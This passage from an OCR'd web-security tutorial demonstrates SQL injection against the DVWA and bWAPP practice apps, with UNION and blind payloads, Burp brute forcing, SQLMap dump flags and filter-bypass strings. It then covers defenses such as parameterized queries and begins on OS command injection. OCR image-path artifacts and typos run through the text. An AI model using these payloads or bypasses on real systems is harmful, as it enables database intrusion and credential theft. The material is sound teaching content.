2 and 1=0 union select null, table_name from information_schema.tables WHERE
table_schema=0x64767761. This turns out to be a successful injection as seen

The following tables are dumped, which are guestbook, and users, but we are
focused on getting the columns from the users table. The following command

should be executed. We must remember to ascii encode users because passing
the command regularly we return no results.
2 and 1=0 union select null,concat(table_name,0x0a,column_name) frominformation_schema.columns wheretable_name=0x7573657273

We have multiple columns of interest. namely the user and password columns that
exist in the users table as seen above. The avatar, first_name, last_name columns
will be ignored. The final step is to pull the data from the user and password
columns with the following command:
2 and 1=0 union select null,concat(user,0x0a,password) from users.
No ascii encoding needs to be done here as no quotes need to be used in the actual


The username and password dumps were successful.

The next application that will be injected into gives even less information so even
further blind guess work injection will have to be employed. Automation attempts
should be made at this point once the vulnerability as properly probed for.

Ironman' and 1=1# returns a result from the database saying the movie exists.
Many would find this result strange considering the fact that there is no such movie
called Ironman, followed by an SQL true statement. This tells the attacker that once
again, web application is not separating human input from programming input.


iron man' AND length(database())=1# , is the command executed above. The

attacker is asking if the length of the name database is 1 character long. The movie
does not exist when executing this query. Upon trying iron man' AND
length(database())=5# we finally get the result of "movie does exist", verifying
that the database is 5 characters long.

Next we need to guess every character of the 5 character long database name.
This tedious taskis started by the query
iron man' AND substring(database(),1,1)='a'# .
The movie does not exist and therefore the first character cannot be a.
iron man' AND substring(database(),1,1)='b'# is the second query attempted.
Lowercase b is queried and the movie does exist, which tells us the first character is
indeed b which is shown below.

Now the second character of the 5 character database must be guessed. But we
need to speed up this process by brute forcing it with Burp. So let's make a payload
andrun the payload parameter through "A-Z, a-z, and 0-9". Then we can check the

length of the page to see what the correct value was. Using the bruteforcer we can
now automate the task of ripping through 62 possible values.

The attacker here should delete the part of the URL query where the character is
being guessed, and replace it with the word payload for clarity, than select the
payload as the position to brute force. In replace of payload, A-Z and 0-9 will be
processed automatically.

The above would be the correct brute force options for this attack, as the attack
only needs to one through every possible letter and number only one time, making
max length of 1 appropriate. As seen in the screenshot below the second value is
obviously W. Continuing this process reveals the database name is "bWapp" which
stands for buggy web application. As seen earlier in this tutorial, the attacker
knows by arranging the results by the web responsespage length in bytes. The w
and W payload produced a different length of bytes by the web application where
as all other letters and numbers were less and also equal to each other. It tells the
attacker that w is a special payload. Upon rendering the page it is seen that W

is indeed the next character in the string. It was the 23 rd request and the complete
attack was completed in less than 10 seconds.

What about the tables and columns names? Even using burpsuite with ita
bruteforcing methods is an exhausting task for this type of blind injection.Attention
wil; be turned to SQLMap for further automation. SQLMap is a popular Linux tool for
auditing of database and web application security.

Testers should know that when configuring the tool to perform the attack, the web
address of the vulnerable page as well as the cookie is needed in the parameters,
before starting the attack. Many applications vulnerable to SQL injection will need
to be tested during authenticated sessions, therefore the cookie parameter is vital
to allow SQLMap access.SQLMap indeed detects that the title parameter is vulnerable to injection. The
tester can defer attacking other parameters in the URL at this point.


Having previously discovered that the database name was bwapp, the attacker
should specify the database that should be attacked in order to gain the table
content. -D bwapp tables is the appropriate flags in this example.

Sqlmap has brute forced the table name successfully. Blog, heroes, movies,
and users exist as tables in the bwapp database, but attention is turned to the
users table.-T users columns are theappropriate flags that specify the attacker wants to
brute force the columns of the users table.


Above, The columns are brute forced and interesting ones are revealed. In this
attack the rows for the columns email,login, and password will be extracted.

The proper flags -D bwapp T users-C email,login,password dump instructs

SQLMap to dump the columns data of email, login, and password from the users
table that exists in the bwapp database.

The accounts are dumped, and the weak hashes are cracked automatically by
SqlMap, revealing the username bee having a password of bug Interestingly,
the user shawn has a hashed password that could not be cracked by the default
wordlist contained inside of SQLMap. The attacker should submit this hash to one of
the many free online cracking stations that use large rainbow tables.This is performed and the hash is cracked. The password is revealed to be nyit.
SHA1 hashing is not a suitable hashing method regardless, and at least SHA2 should
be used.
SQLMap proved to be more efficient in dumping the database than the
burp method used. It should be noted that SQLMap did not use Boolean blind brute
forcing based on page response but time based blind injection. The idea is the
same in the sense of the attack byte by byte extracting data based on condition
responses from the web application, but in this case, a time delay is injected. If the
server responds to the query with the correct time delay specified by the attacker,
the conditional yes or no to a command is answered. If it takes abnormally long
that would likely reflect a true statement. For example SELECT * FROM users
WHERE id=5-SLEEP(15) injects a sleep command for 15 seconds. If the servers
response to the query reflects an abnormally long response than it justifies the yes
or no question being asked or query being executed. This is painful to do manually
so thankfully tools like SQLMap automate this process for blind and deep blind SQL
SQL injection prevention is complex and a defense in depth approach in
layers is the best suited approachto securing applications against code injection
attacks. Firstly, all databases should be target hardened. This implies that
appropriate permissions for databases are used. Databases that interact with the
web application rarely need administrative type of access, and therefore admin
access privileges of the web app over the database should be stripped. The type of
functionality of the purpose of the database needs to be taken into account. For a
database that is only performing read functions more than 80 percent of the time,
write permissions by the web app to that database should be completely disabled.
A different account should be used entirely just for performing a write on a query in
this situation. This severely limits the effectiveness of an attacker where
exploitation exists. Though accounts should be divided permission wise based on
their functions, the database as a whole should remove functions it does not use.
The less functions an attacker can utilize, the less effective the injection attempts.
Many issues will arise with an attacker trying to inject into a database where the
functionality is neutered and tailored specifically for the applications use, and not
for an attacker looking to leverage queries. Enterprise databases come out of the
box with a large amount ofdefault functions enabled, so this should be lookedinto
thoroughly. Patching is hugely important as well. Database admins should use a
subscriber based patching mechanism, where live patches are rolled out in real time
as soon as an exploit is discovered in the wild. This is important if the fix has not

yet been pushed by the actual vendor. Filtering and blocking queries must be
applied as well. In this tutorial, the use of quotes being used to execute statements
has been seen frequently. The solution to this is to obviously take single quotes
submitted by the user, and sanitizing it, perhaps by doubling the quotes. This
would successfully through off the syntax of the malicious query. This is not enough
unfortunately, and in one of the attacks above, this filtering method was defeated
by submitting the data numerically, converted to ascii. What about a filter blocking
the order by statement? The following bypasses could work:OrDeR,
%00ORDER(#00 is url encoded whitespace, which should be filtered),
ORORDERDER(order is filtered once, allowing the hidden order to pass) and URL
encoding the characters to be %4f%72%44%65%72.

Ultimately, combinations of whitelists and blacklists and proper

escaping of certain characters also should be applied to stop injection, but
parameterized or prepared statements are perhaps the most crucial.Stored
procedures, which is another term for it, are more secure than constructing full SQL
queries without set placeholders for data. Using APIs that use parameterized
statements apply the logic that was first mentioned when discussing why injection
can occur in the first place. Using parameterizedstatements, the application can
discern between human input versus SQL programming input not from the user by
forcing all user input to never be part of a query. Amalicious user may pass a
username query to the database, but the application will hit it with a prepared
statement that fixes the structure of the query, then the string is finally set and is
then executed. Nothing in the query can escape username and be applied as an
SQL query. The code from the Web Applications Handbook illustrates the proper
API code to sanitize user input:
//define the query structure
String queryText = SELECT ename,sal FROM EMP WHERE ename = ?;
//prepare the statement through DB connection con
stmt = con.prepareStatement(queryText);


//add the user input to variable 1 (at the first ? placeholder)

stmt.setString(1, request.getParameter(name));
// execute the query
rs = stmt.executeQuery();

Analyzing the above code, it seen that ename=? the ename is used as a
placeholder and not just straightforwardly passed to the database. It hits the
prepare statement and proper parameters are applied to it before being executed.
Also, notice the setString being applied to the parameter. Any executable
commands are blocked because of the setting to string. When applying
parameterization of queries, it should be done for every query, not just queries
assumed to be more important to the developers. Going further, all query data
supplied needs to be parameterized. Developers have used prepare statements
that did not parameterize all data submitted, instead allowing some data to be
concatenating into the string, allowing injection to occur. Placeholders should notbe allowed to utilize column and table names. If there is a rare case where the
application does need to specify a column or table according to user supplied data,
than heavy whitelisting should be applied, so nothing outside of what
tables/columns exist can be submitted. Since user input is being accepted in this
example, heavy whitelisting, length limits, input validation replacement, and
character limits should be applied heavily.(character limits allowing only
alphanumeric characters and no special characters). It was seen in the attacks how
much harder injection was when errors were not dumped to the attacker, forcing
blind injection methods. Though this wont stop a determined attacker, the
application should never dump errors to the client. Again, a defense in depth
approach is far superior to any single defense mechanism.

OS Command Injection
Numerous web applications employ utilities for a user to interact with
the application in a manner that allows the user to view directory contents, or ping
addresses to test availability. Web applications meant for administration of servers,
printers, and firewalls usually will employ built in interfaces that allow the user to
make calls to the operating system. Being able to access the operating system
from an application allows powerful features for users to use network functions,
interact with other processes, and make changes that are relevant to their account
at a file system level. The caveat of allowing direct operating system commandspassed to the server is that this opens a large vulnerability for command injection
that is outside the scope of what the application intends. An example, which will be

shown to be exploited, is a web app that allows users to ping a website or ip of their
choice. A vulnerable web application could allow a malicious user to use escape
characters such as : ;, |, and && to escape the original command and add
their own command input, effectively allowing remote command injection.
Inherently, the web applications permissions to the server are usually enough where
command injection can be leveraged to gain access on the back end to the entire
server through a remote shell, and subsequent privilege escalation is possible from
When testing for command injection flaws a tester should crawl through
the applications contents and see where any functions of the web application exist
to probe the servers file system or performing process functions like a pinging
function. It is important to note that an application does not have to simply submit
user supplied data simplythrough a function built into the application. The
penetration tester should analyze all cookies,url parameters, and form fields to see
if user input that interacts with the server is passed in through these mediums as
well. The shell metacharacters that allow custom OS injection must be understand
as they differ according to what underlying server OS is being used, namely
whether or not Windows or Linux based. The focus will be on ;, |, and & as
the shell metacharacters that are commonly used to conjoin commands together.
Utilizing && will allow the second command to run if the first command is verified as
running with success. The || doubling of this shell metacharacter allows the
second command to run even if the first command failed.
Commonly web applications will still be vulnerable to command
injection but nothing can be inferred directly by the application that shows
